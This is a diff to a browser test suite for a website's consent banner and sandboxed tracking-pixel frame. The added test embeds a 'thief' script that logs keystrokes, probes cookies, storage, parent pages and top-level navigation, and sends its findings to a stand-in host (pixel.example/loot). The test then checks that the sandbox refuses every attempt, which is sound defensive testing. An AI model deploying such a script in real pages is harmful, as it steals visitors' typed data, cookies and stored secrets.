@@ -15,10 +15,10 @@ import {
   watchShift,
 } from "./site-test.ts";
 
-/** Stands in for the provider's script: sets its cookies, takes its queue over, and reports views late. */
+/** Stands in for the provider's script: uses cookie and storage, takes its queue over, and reports views late. */
 const STUB = `(() => {
   document.cookie = "_fbp=fb.1.1; Path=/";
-  document.cookie = "_fbc=fb.1.2; Path=/";
+  if (!document.cookie) window.localStorage?.setItem("_fbp", "fb.1.1");
   const calls = (window.pixelCalls = []);
   const take = (...call) => {
     calls.push(call);
@@ -129,6 +129,118 @@ test("accepting loads it, and the provider is told each navigation once, without
   for (const { referrer, header } of asked) expect([referrer ?? "", header]).toEqual(["", undefined]);
 });
 
+/**
+ * A script that steals, where the provider's would be: it tries each way out of its frame that is known, sends what it
+ * got, and names the ways that were refused. Then it takes the focus, and sends each key that it hears.
+ */
+const THIEF = `(async () => {
+  const send = (loot) => {
+    new Image().src = "https://pixel.example/loot?" + new URLSearchParams({ loot: JSON.stringify(loot) });
+  };
+  for (const type of ["keydown", "input", "message"]) addEventListener(type, ({ key, data }) => send(["heard", key, data]), true);
+  const inner = document.documentElement.appendChild(document.createElement("iframe"));
+  const cookie = Object.getOwnPropertyDescriptor(Document.prototype, "cookie");
+  const asked = (request) => new Promise((resolve, reject) => {
+    request.onsuccess = () => resolve(request.result);
+    request.onerror = () => reject(request.error);
+  });
+  const ways = {
+    "page": () => parent.document.documentElement.outerHTML,
+    "top": () => top.document.documentElement.outerHTML,
+    "change of the page": () => { parent.document.title = "stolen"; },
+    "globals of the page": () => Object.getOwnPropertyNames(parent).map((name) => parent[name]),
+    "element of the frame": () => frameElement.ownerDocument.documentElement.outerHTML,
+    "address": () => parent.location.href,
+    "history": () => parent.history.state,
+    "navigations": () => parent.navigation.entries().map(({ url }) => url),
+    "cookies": () => cookie.get.call(document),
+    "cookies of an inner frame": () => inner.contentDocument.cookie,
+    "a cookie to set": () => cookie.set.call(document, "_stolen=1; Path=/"),
+    "cookie store": () => cookieStore.getAll(),
+    "local storage": () => ({ ...inner.contentWindow.localStorage }),
+    "session storage": () => ({ ...inner.contentWindow.sessionStorage }),
+    "storage of the page": () => ({ ...parent.localStorage }),
+    "databases": () => asked(indexedDB.open("stolen")),
+    "caches": () => caches.keys(),
+    "files": () => navigator.storage.getDirectory(),
+    "worker": () => navigator.serviceWorker.register("/sw.js"),
+    "request": async () => (await fetch("/es/contact?type=partner", { credentials: "include" })).text(),
+    "navigation of the page": () => { top.location = "https://pixel.example/elsewhere"; },
+    "window": () => open("https://pixel.example/elsewhere").name,
+  };
+  const got = {
+    address: location.href,
+    base: document.baseURI,
+    loaded: performance.getEntries().map(({ name }) => name),
+    history: [history.state, window.navigation?.entries().map(({ url }) => url)],
+    referrer: document.referrer,
+    ancestors: [...(location.ancestorOrigins ?? [])],
+    name: window.name,
+  };
+  const refused = [];
+  for (const [way, go] of Object.entries(ways)) {
+    try {
+      got[way] = JSON.stringify(await go());
+    } catch {
+      refused.push(way);
+    }
+  }
+  send({ got, refused, all: Object.keys(ways) });
+  setInterval(() => {
+    parent.postMessage("What is typed?", "*");
+    window.focus();
+  }, 300);
+})();`;
+
+test.describe("a script of the provider's that steals", () => {
+  test.use({ expectedErrors: [/Unsafe attempt|Blocked opening|Content Security Policy|refused by/] });
+  test("gets no field, no key, no address beyond the path, and nothing that the site keeps", async ({
+    page,
+    context,
+    baseURL,
+  }) => {
+    const loot: { got?: Record<string, unknown>; refused?: string[]; all?: string[] }[] = [];
+    await context.route("https://pixel.example/**", (route) => {
+      const { pathname, searchParams } = new URL(route.request().url());
+      if (pathname === "/loot") loot.push(JSON.parse(searchParams.get("loot") ?? ""));
+      return route.fulfill(
+        pathname.endsWith(".js") ? { contentType: "text/javascript", body: THIEF } : { status: 204 },
+      );
+    });
+    await page.goto("/es/about?secret=before#secret");
+    await page.evaluate(() => {
+      for (const storage of [localStorage, sessionStorage]) storage.setItem("kept", "secret");
+      window.name = "secret";
+      history.replaceState({ kept: "secret" }, "");
+    });
+    await context.addCookies([{ name: "kept", value: "secret", url: baseURL ?? "" }]);
+    await page.goto("/es/contact?type=partner&secret=now#secret");
+    await hydrated(page);
+    const email = page.locator("[name=email]");
+    await email.fill("secret@example.com");
+    await banner(page).getByRole("button", { name: es.layout.consent.accept }).click();
+    await expect.poll(() => loot).toHaveLength(1);
+    expect(loot[0]?.refused).toEqual(loot[0]?.all);
+    const frame = `${baseURL}/pixel/es/contact`;
+    const own = `${baseURL}/es/contact`;
+    expect(loot[0]?.got).toEqual({
+      address: own,
+      base: own,
+      loaded: [frame, "visible", PIXEL_SCRIPT],
+      history: [null, []],
+      referrer: "",
+      ancestors: [baseURL],
+      name: "",
+    });
+    await page.locator("[name=message]").pressSequentially("What a visitor writes".repeat(4), { delay: 20 });
+    // It took the focus, which a hidden frame has no use for.
+    await expect.poll(() => frames(page)).toEqual([]);
+    expect(loot).toHaveLength(1);
+    expect(await left(page, context)).toEqual(["blc-consent", "kept"]);
+    await expect(page).toHaveURL("/es/contact?type=partner&secret=now#secret");
+  });
+});
+
 test("rejecting is as easy, is stored, and can be changed from the footer", async ({ page, asked }) => {
   await page.goto("/");
   const [accept, reject] = [
@@ -146,11 +258,9 @@ test("rejecting is as easy, is stored, and can be changed from the footer", asyn
   await settings.click();
   await banner(page).getByRole("button", { name: es.layout.consent.accept }).click();
   await expect.poll(() => viewed(asked)).toHaveLength(1);
-  expect(await page.evaluate(() => document.cookie)).toContain("_fbp");
   await settings.click();
   await banner(page).getByRole("button", { name: es.layout.consent.reject }).click();
   await expect.poll(() => frames(page)).toEqual([]);
-  expect(await page.evaluate(() => document.cookie)).not.toContain("_fbp");
   const before = asked.length;
   await page.getByRole("link", { name: es.about.menu.name }).click();
   await expect(page).toHaveURL(/\/about$/);
@@ -193,6 +303,7 @@ test("only the frame's policy names the provider, and only where it is configure
   const policy = async (url: string) => (await page.request.get(url)).headers()["content-security-policy"] ?? "";
   expect(await policy(`${pixelSite.url}/pixel/about`)).toContain(`'none';script-src 'sha256-`);
   expect(await policy(`${pixelSite.url}/pixel/about`)).toContain(` ${new URL(PIXEL_SCRIPT).origin};`);
+  expect((await policy(`${pixelSite.url}/pixel/about`)).split(";")).toContain("sandbox allow-scripts");
   expect(await policy(pixelSite.url)).toContain(";frame-src 'self';");
   for (const url of [pixelSite.url, site.url]) expect(await policy(url)).not.toMatch(/https?:/);
   expect((await page.request.get(`${site.url}/pixel/about`)).status()).toBe(404);
@@ -226,9 +337,9 @@ test("all that can be left is on the page about cookies, in each language, and n
   await page.locator("[data-search-key] input").uncheck();
   expect(asked).toEqual([]);
   await page.locator('[data-choice="accepted"]').click();
-  await expect.poll(async () => (await context.cookies()).length).toBe(3);
+  await expect.poll(() => viewed(asked)).toHaveLength(1);
   const names = await left(page, context);
-  expect(names).toEqual(["_fbc", "_fbp", "blc-consent", "i18nextLng", "search-key", "theme"]);
+  expect(names).toEqual(["blc-consent", "i18nextLng", "search-key", "theme"]);
   const cookie = (await context.cookies()).find(({ name }) => name === "i18nextLng");
   const days = Math.round(((cookie?.expires ?? 0) - Date.now() / 1000) / 86_400);
   for (const language of LANGUAGES) {
